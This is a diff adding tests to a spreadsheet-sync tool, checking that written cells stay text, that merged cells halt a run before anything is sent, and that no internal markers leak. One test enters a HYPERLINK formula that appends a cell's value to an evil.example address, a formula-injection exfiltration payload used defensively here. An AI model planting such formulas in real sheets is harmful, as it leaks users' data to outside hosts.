@@ -70,6 +70,115 @@ describe('text that is written', () => {
   });
 });
 
+describe('text is text in every row', () => {
+  const own = (header: string) => sheet.column(header);
+  const inputs = () => {
+    const cells = sheet.emulator.hands.snapshot().tabs.find(({ name }) => name === 'Tab')?.cells ?? [];
+    return cells.map((row) => row.map(({ input }) => input));
+  };
+  const columnOf = (header: string) => String.fromCharCode(65 + (inputs()[0] ?? []).indexOf(header));
+  const push = { action: 'push', scope: 'tab' } as const;
+
+  test('in one that came without our format: a detail that begins with a header is no formula', async () => {
+    sheet = await openSheet(
+      [
+        ['ID', "'+ Extras"],
+        ['1', 'x'],
+        ['2', 'x'],
+        ['3', '=NA()'],
+      ],
+      {
+        platform: { rows: [1, 2, 3].map((ID) => ({ ID, Data: {} })) },
+      },
+    );
+    await sheet.run(push);
+    const [first, last] = [columnOf('Sync fingerprint'), columnOf('Synced at')];
+    sheet.emulator.hands.clear('Tab', `${first}4:${last}4`);
+    sheet.emulator.hands.setNumberFormat('Tab', `${first}2:${last}4`, 'General');
+    await sheet.run(push);
+    expect(own('Sync detail')[2]).toBe('+ Extras shows the error #N/A. Correct the formula.');
+    expect(succeed(await sheet.ask('startRun', push))).toMatchObject({ kind: 'started' });
+  });
+
+  test('in one between two rows that are written', async () => {
+    await openListings(listingRows('A1', 'A2', 'A3'), { platform: { listings: records('A1', 'A2', 'A3') } });
+    await sheet.run(sync);
+    const [detail, description] = [`${columnOf('Sync detail')}3`, columnOf('Description')];
+    sheet.emulator.hands.setNumberFormat('Tab', detail, 'General');
+    sheet.emulator.hands.type('Tab', detail, `'=HYPERLINK("https://evil.example/?"&A3,"note")`);
+    const before = own('Sync detail')[1];
+    for (const row of [2, 4]) sheet.emulator.hands.type('Tab', `${description}${row}`, 'New.');
+    sheet.emulator.hands.select('Tab', ['A2', 'A4']);
+    await sheet.run({ action: 'sync', scope: 'selection' });
+    expect(own('Sync detail')).toEqual(['Updated.', before, 'Updated.']);
+  });
+
+  test('in all of them where somebody cleared the format: times stay texts', async () => {
+    await openListings(listingRows('A1', 'A2'));
+    await sheet.run(sync);
+    const [first, last] = [columnOf('Sync fingerprint'), columnOf('Synced at')];
+    sheet.emulator.hands.clear('Tab', `${first}2:${last}3`);
+    sheet.emulator.hands.setNumberFormat('Tab', `${first}3:${last}3`, 'General');
+    await sheet.run(sync);
+    expect(ownColumn('Synced at').map((time) => typeof time)).toEqual(['string', 'string']);
+  });
+
+  test('and where cells of ours are merged the run says so, before anything is sent', async () => {
+    await openListings(listingRows('A1', 'A2'));
+    await sheet.run(sync);
+    sheet.platform.journal.clear();
+    const status = columnOf('Sync status');
+    sheet.emulator.hands.merge('Tab', `${status}2:${status}3`);
+    sheet.emulator.hands.type('Tab', `${columnOf('Description')}2`, 'New.');
+    const refused = await sheet.ask('startRun', sync);
+    expect(refused).toMatchObject({ ok: false, error: { kind: 'columnsRefused' } });
+    expect(refused.ok ? '' : refused.error.message).toContain(`${status}2:${status}3`);
+    expect(sheet.requests()).toEqual([]);
+  });
+
+  test('and a run whose cells are merged while it waits stops in words', async () => {
+    await openListings(listingRows('A1', 'A2'));
+    const { runId } = await beginWaiting(sheet, sync);
+    const status = columnOf('Sync status');
+    sheet.emulator.hands.merge('Tab', `${status}2:${status}3`);
+    expect(await sheet.ask('continueRun', { runId })).toMatchObject({ ok: false, error: { kind: 'columnsRefused' } });
+    expect(sheet.requests()).toEqual([]);
+  });
+});
+
+test('rows inserted above the header while the columns are made send no word of ours to the chatbot', async () => {
+  sheet = await openSheet(
+    [
+      ['ID', 'Name'],
+      ['1', 'one'],
+      ['2', 'two'],
+    ],
+    {
+      platform: { rows: [1, 2].map((ID) => ({ ID, Data: {} })) },
+    },
+  );
+  // Right after the look, which nothing can see.
+  const stop = sheet.emulator.after(
+    'Range.getValues',
+    ({ area }) => area?.rowNumber === 1 && area.columnCount > 2,
+    () => {
+      stop();
+      sheet.emulator.hands.insertRows('Tab', 1, 1);
+    },
+  );
+  for (let run = 0; run < 3; run += 1) {
+    const started = await sheet.ask('startRun', { action: 'push', scope: 'tab' });
+    if (started.ok && started.value.kind === 'started' && started.value.progress.state === 'running')
+      await sheet.ask('continueRun', { runId: started.value.progress.runId });
+    sheet.emulator.hands.type('Tab', 'B3', `changed ${run}`);
+  }
+  const sent = sheet
+    .sent('UpdateGoogleSheetData')
+    .map((body) => JSON.stringify(body))
+    .join();
+  expect(sent).not.toMatch(/Sending|Being sent|run-|v1:|Pushed/);
+});
+
 describe('text that is written after a wait', () => {
   test('stays text although somebody cleared the formatting while a slice waited for the platform', async () => {
     await openListings(listingRows('A1', 'A2'));
